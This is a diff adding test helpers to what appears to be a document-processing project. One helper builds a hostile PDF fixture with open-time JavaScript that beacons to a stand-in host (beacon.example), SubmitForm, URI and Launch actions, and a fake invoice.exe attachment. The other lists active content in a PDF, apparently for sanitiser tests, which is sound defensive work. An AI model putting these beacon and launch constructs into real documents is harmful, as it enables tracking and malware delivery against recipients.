@@ -67,3 +67,105 @@ class GatedOriginals(PreloadedOriginals):
     def page_texts(self, document: DocumentView) -> list[str]:
         self._wait_once()
         return super().page_texts(document)
+
+
+def hostile_pdf(path: Path, text: str = "Charge sheet of the Prosecutor General") -> Path:
+    """A one-page PDF made as a persecuting state's office might send it: JavaScript when the
+    page opens and in the document's names, a SubmitForm beacon in a form field's parent, URI
+    and Launch links, an attached invoice.exe (as an annotation and as an embedded file)."""
+    import pikepdf
+    from reportlab.pdfgen.canvas import Canvas
+
+    canvas = Canvas(str(path))
+    canvas.drawString(72, 720, text)
+    canvas.save()
+    pdf = pikepdf.open(path, allow_overwriting_input=True)
+    page = pdf.pages[0].obj
+
+    def action(**entries: object) -> pikepdf.Dictionary:
+        return pdf.make_indirect(pikepdf.Dictionary(**entries))  # type: ignore[arg-type]
+
+    beacon = "this.submitForm('https://beacon.example/opened?where=' + app.viewerType);"
+    page.AA = pikepdf.Dictionary(O=action(S=pikepdf.Name.JavaScript, JS=beacon))
+    field = pdf.make_indirect(
+        pikepdf.Dictionary(
+            FT=pikepdf.Name.Tx,
+            T=pikepdf.String("name"),
+            AA=pikepdf.Dictionary(
+                K=action(S=pikepdf.Name.SubmitForm, F=pikepdf.String("https://beacon.example"))
+            ),
+        )
+    )
+    widget = pikepdf.Dictionary(
+        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Widget, Rect=[72, 600, 300, 620],
+        Parent=field,
+    )  # fmt: skip
+    field.Kids = pikepdf.Array([widget])
+    uri = pikepdf.Dictionary(
+        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[72, 700, 300, 730],
+        A=action(
+            S=pikepdf.Name.GoTo, D=pikepdf.Array([page, pikepdf.Name.Fit]),
+            Next=action(S=pikepdf.Name.URI, URI=pikepdf.String("https://beacon.example/x")),
+        ),
+    )  # fmt: skip
+    launch = pikepdf.Dictionary(
+        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[72, 650, 300, 680],
+        A=action(S=pikepdf.Name.Launch, F=pikepdf.String("invoice.exe")),
+    )  # fmt: skip
+    spec = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00 not really a program", filename="invoice.exe")
+    attachment = pikepdf.Dictionary(
+        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.FileAttachment, Rect=[400, 700, 420, 720],
+        FS=spec.obj,
+    )  # fmt: skip
+    page.Annots = pdf.make_indirect(pikepdf.Array([uri, launch, widget, attachment]))
+    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([field]))
+    pdf.Root.OpenAction = action(S=pikepdf.Name.JavaScript, JS=beacon)
+    pdf.Root.Names = pikepdf.Dictionary(
+        JavaScript=pikepdf.Dictionary(
+            Names=pikepdf.Array(
+                [pikepdf.String("beacon"), action(S=pikepdf.Name.JavaScript, JS=beacon)]
+            )
+        )
+    )
+    pdf.attachments["invoice.exe"] = pikepdf.AttachedFileSpec(
+        pdf, b"MZ second copy", filename="invoice.exe"
+    )
+    pdf.save(path)
+    return path
+
+
+def active_content_in(path: Path) -> list[str]:
+    """Everything in a PDF that could act when it is opened, described (empty: none). Walks
+    the whole object graph from the trailer, direct objects included."""
+    import pikepdf
+
+    found: list[str] = []
+    with pikepdf.open(path) as pdf:
+        seen: set[tuple[int, int]] = set()
+        pending: list[pikepdf.Object] = [pdf.trailer]
+        while pending:
+            obj = pending.pop()
+            if isinstance(obj, pikepdf.Dictionary | pikepdf.Array | pikepdf.Stream) and (
+                obj.is_indirect
+            ):
+                if obj.objgen in seen:
+                    continue
+                seen.add(obj.objgen)
+            if isinstance(obj, pikepdf.Array):
+                pending.extend(obj)
+                continue
+            if not isinstance(obj, pikepdf.Dictionary | pikepdf.Stream):
+                continue
+            kind = str(obj.get("/S", ""))
+            if "/JS" in obj or kind in ("/JavaScript", "/Launch", "/SubmitForm", "/URI",
+                                         "/ImportData", "/Rendition"):  # fmt: skip
+                found.append(f"action {kind}")
+            if "/AA" in obj:
+                found.append("an additional-actions dictionary")
+            if str(obj.get("/Subtype", "")) in ("/FileAttachment", "/RichMedia", "/Screen"):
+                found.append(f"annotation {obj.get('/Subtype')}")
+            if "/EmbeddedFiles" in obj:
+                names = obj.EmbeddedFiles.get("/Names", [])
+                found += [f"attachment {n}" for n in list(names)[::2] if str(n) != "manifest.json"]
+            pending.extend(obj.values())
+    return found
